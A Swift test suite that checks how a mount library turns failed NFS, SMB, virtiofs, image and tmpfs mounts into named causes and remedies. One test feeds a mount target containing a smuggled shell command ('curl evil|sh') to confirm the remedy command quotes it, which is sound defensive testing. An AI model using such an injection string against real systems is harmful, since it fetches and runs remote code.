import ShareKinds
import ShareModel
import Testing

/// One row: what was seen, and the cause it must give.
struct FailureCase: Sendable, CustomTestStringConvertible {
    let share: Share
    let errno: Int32
    let log: [String]
    let connection: ConnectionProbe?
    let attempt: String
    let code: CauseCode

    init(
        _ share: Share, _ errno: Int32, _ code: CauseCode, log: [String] = [], connection: ConnectionProbe? = nil,
        attempt: String = "attempt"
    ) {
        self.share = share
        self.errno = errno
        self.log = log
        self.connection = connection
        self.attempt = attempt
        self.code = code
    }

    var testDescription: String { "\(share.source.type.rawValue) errno \(errno) \(log) \(connection?.words ?? "") -> \(code.rawValue)" }
}

@Suite("A failed mount tells its cause")
struct FailureTests {
    static func cases() throws -> [FailureCase] {
        let files = try virtiofs()
        let plain = try nfs()
        let kerberos = try nfs([.init("security", "krb5")])
        let tls = try nfs([.init("transport", "tls")])
        let team = try smb([], [.init("credential", "c")])
        let anonymous = try smb()
        let sealed = try smb([.init("encryption", "required")], [.init("credential", "c")])
        let image = try share([.init("type", "image"), .init("label", "data"), .init("filesystem", "ext4")])
        let template = try share([.init("type", "image"), .init("label", "data"), .init("filesystem", "xfs")])
        let scratch = try tmpfs()
        return [
            FailureCase(files, 19, .filesystemUnsupported), FailureCase(files, 22, .tagNotFound),
            FailureCase(files, 22, .tagNotFound, log: ["virtio-fs: tag <files> not found"]), FailureCase(files, 16, .tagBusy),
            FailureCase(files, 22, .optionUnknown, log: ["virtiofs: Unknown parameter 'cache'"]),
            FailureCase(files, 107, .hostServiceDead), FailureCase(files, 1, .permissionDenied),
            FailureCase(plain, 19, .filesystemUnsupported), FailureCase(plain, 111, .connectionRefused),
            FailureCase(plain, 113, .serverUnreachable), FailureCase(plain, 101, .serverUnreachable),
            FailureCase(plain, 110, .serverUnreachable, connection: .timedOut),
            FailureCase(plain, 110, .serverSilent, connection: .connected),
            FailureCase(plain, 110, .connectionRefused, connection: .refused), FailureCase(plain, 110, .mountTimeout),
            FailureCase(plain, 110, .serverUnreachable, connection: .unreachable("no route to host")),
            FailureCase(plain, 2, .exportNotFound), FailureCase(plain, 13, .accessDenied), FailureCase(plain, 1, .accessDenied),
            FailureCase(plain, 93, .versionUnsupported), FailureCase(plain, 95, .hostServiceDead, attempt: "NFS 3"),
            FailureCase(plain, 111, .hostServiceDead, connection: .connected, attempt: "NFS 3"),
            FailureCase(plain, 111, .connectionRefused, connection: .connected),
            FailureCase(plain, 16, .optionRefused), FailureCase(plain, 116, .staleHandle), FailureCase(plain, 30, .readOnlySource),
            FailureCase(plain, 22, .optionUnknown, log: ["nfs: Unknown parameter 'x'"]),
            FailureCase(plain, 22, .optionRefused, log: ["NFS: Bad value for 'rsize'"]), FailureCase(plain, 12, .memoryExhausted),
            FailureCase(plain, 5, .ioError, connection: .connected),
            FailureCase(kerberos, 22, .securityUnsupported, log: ["NFS4: Couldn't follow remote path"]),
            FailureCase(tls, 3, .helperMissing), FailureCase(tls, 13, .securityUnsupported),
            FailureCase(tls, 22, .optionUnknown, log: ["nfs: Unknown parameter 'xprtsec'"]),
            FailureCase(team, 13, .credentialRejected),
            FailureCase(team, 13, .credentialRejected, log: ["CIFS: Status code returned 0xc000006d STATUS_LOGON_FAILURE"]),
            FailureCase(team, 13, .accountLocked, log: ["CIFS: Status code returned 0xc0000234 STATUS_ACCOUNT_LOCKED_OUT"]),
            FailureCase(team, 13, .accessDenied, log: ["CIFS: Status code returned 0xc0000022 STATUS_ACCESS_DENIED"]),
            FailureCase(team, 2, .exportNotFound, log: ["CIFS: VFS:  BAD_NETWORK_NAME: \\\\nas\\team"]),
            FailureCase(team, 2, .exportNotFound),
            FailureCase(team, 127, .credentialRejected, log: ["CIFS: Status code returned 0xc0000071 STATUS_PASSWORD_EXPIRED"]),
            FailureCase(team, 13, .authenticationFailed, log: ["CIFS: Status code returned 0xc0000072 STATUS_ACCOUNT_DISABLED"]),
            FailureCase(team, 5, .authenticationFailed, log: ["CIFS: Status code returned 0xc000005e STATUS_NO_LOGON_SERVERS"]),
            FailureCase(team, 5, .connectionRefused, log: ["CIFS: Status code returned 0xc00000d0 STATUS_REQUEST_NOT_ACCEPTED"]),
            FailureCase(team, 2, .exportNotFound, log: ["CIFS: Status code returned 0xc00000c9 STATUS_NETWORK_NAME_DELETED"]),
            FailureCase(team, 524, .signingRequired, log: ["CIFS: VFS: \\\\nas Server doesn't support signing but client requires it"]),
            FailureCase(kerberos, 13, .authenticationFailed), FailureCase(plain, 122, .quotaExceeded),
            FailureCase(
                team, 95, .versionUnsupported,
                log: ["CIFS: VFS: \\\\nas Dialect not supported by server. Consider  specifying vers=1.0 or vers=2.0 on mount"],
                connection: .connected),
            FailureCase(team, 112, .versionUnsupported, connection: .connected),
            FailureCase(team, 112, .connectionRefused, connection: .refused),
            FailureCase(team, 112, .serverUnreachable, connection: .timedOut), FailureCase(team, 111, .connectionRefused),
            FailureCase(team, 79, .charsetUnavailable), FailureCase(team, 126, .helperMissing), FailureCase(team, 129, .credentialRejected),
            FailureCase(team, 5, .clockSkew, log: ["CIFS: Status code returned 0xc0000133 STATUS_TIME_DIFFERENCE_AT_DC"]),
            FailureCase(team, 19, .filesystemUnsupported), FailureCase(anonymous, 13, .credentialMissing),
            FailureCase(sealed, 95, .encryptionRequired),
            FailureCase(image, 117, .imageDamaged), FailureCase(image, 22, .imageDamaged), FailureCase(image, 74, .imageDamaged),
            FailureCase(image, 2, .imageNotFound), FailureCase(image, 30, .readOnlySource), FailureCase(image, 16, .alreadyAttached),
            FailureCase(
                template, 22, .alreadyAttached,
                log: ["XFS (loop1): Filesystem has duplicate UUID 23030afb-fd8e-4091-817d-6ff529da0628 - can't mount"]),
            FailureCase(template, 22, .imageDamaged, log: ["XFS (loop1): Superblock has bad magic number 0x0. Not an XFS filesystem?"]),
            FailureCase(image, 5, .ioError), FailureCase(image, 19, .filesystemUnsupported),
            FailureCase(scratch, 22, .optionRefused, log: ["tmpfs: Bad value for 'size'"]), FailureCase(scratch, 12, .memoryExhausted),
            FailureCase(scratch, 28, .memoryExhausted), FailureCase(scratch, 13, .securityModuleDenied),
            FailureCase(scratch, 9999, .internalError),
        ]
    }

    @Test("table", arguments: try cases())
    func table(_ row: FailureCase) throws {
        let plan = try MountPlan.make(row.share, policy: .standard)
        let failure = MountFailure(
            errno: row.errno, errnoName: "ENAME", errnoText: "words", attempt: row.attempt, kernelLog: row.log, connection: row.connection,
            address: plan.address == nil ? nil : "10.77.0.1")
        let cause = plan.cause(of: failure, source: row.share.source)
        #expect(cause.code == row.code)
        #expect(cause.message.hasPrefix("share 'projects': cannot mount \(row.share.source.type.rawValue) "))
        #expect(!cause.message.hasSuffix("."))
        #expect(!cause.remedy.isEmpty)
        #expect(cause.errno == "ENAME")
        for line in row.log { #expect(cause.evidence.contains(line.printable)) }
    }

    @Test("an SMB share that does not let its user in is told from a refused login by what the log does not say")
    func shutOut() throws {
        let share = try smb([], [.init("credential", "c")])
        let plan = try MountPlan.make(share, policy: .standard)
        func code(_ log: [String], isWhole: Bool) -> CauseCode {
            let failure = MountFailure(
                errno: 13, errnoName: "EACCES", errnoText: "", attempt: "cifs", kernelLog: log, logIsWhole: isWhole, connection: .connected)
            return plan.cause(of: failure, source: share.source).code
        }
        let begun = "CIFS: Attempting to mount \\\\nas\\team"
        #expect(code([begun], isWhole: true) == .accessDenied)
        #expect(code([begun], isWhole: false) == .credentialRejected)
        #expect(code([begun, "CIFS: VFS: \\\\nas Send error in SessSetup = -13"], isWhole: true) == .credentialRejected)
    }

    @Test("XFS images of one template are mounted beside each other with the option that is named")
    func duplicate() throws {
        let template = try share([.init("type", "image"), .init("label", "data"), .init("filesystem", "xfs")])
        let failure = MountFailure(
            errno: 22, errnoName: "EINVAL", errnoText: "", attempt: "xfs",
            kernelLog: ["XFS (vdb): Filesystem has duplicate UUID 1 - can't mount"])
        let remedy = try MountPlan.make(template, policy: .standard).cause(of: failure, source: template.source).remedy
        #expect(remedy.contains { $0.contains("options: {nouuid: true}") } && remedy.contains { $0.contains("xfs_admin -U generate") })
        #expect(try MountPlan.make(template.with(options: ["nouuid": "true"]), policy: .standard).text().contains("nouuid"))
    }

    @Test("a command in a remedy takes a target from the host for a name")
    func quoted() throws {
        let share = try tmpfs([.init("target", "/mnt/a;curl evil|sh")])
        let failure = MountFailure(errno: 16, errnoName: "EBUSY", errnoText: "", attempt: "tmpfs")
        let cause = try MountPlan.make(share, policy: .standard).cause(of: failure, source: share.source)
        #expect(cause.remedy == ["findmnt '/mnt/a;curl evil|sh'"])
    }

    @Test("only a version that the server does not speak leads to the next one")
    func walk() throws {
        let plan = try MountPlan.make(try nfs(), policy: .standard)
        for errno in Int32(1)...130 {
            let failure = MountFailure(errno: errno, errnoName: "", errnoText: "", attempt: "NFS 4.2")
            #expect(plan.isWorthNextAttempt(after: failure) == (errno == 93))
        }
    }
}
